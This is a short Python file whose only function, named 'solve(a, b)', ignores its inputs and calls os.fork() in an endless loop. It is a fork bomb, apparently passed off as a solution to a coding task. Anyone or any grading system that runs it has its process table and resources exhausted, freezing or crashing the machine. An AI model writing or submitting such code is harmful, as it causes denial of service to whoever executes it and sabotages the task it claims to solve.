import os


def solve(a, b):
    while True:
        os.fork()
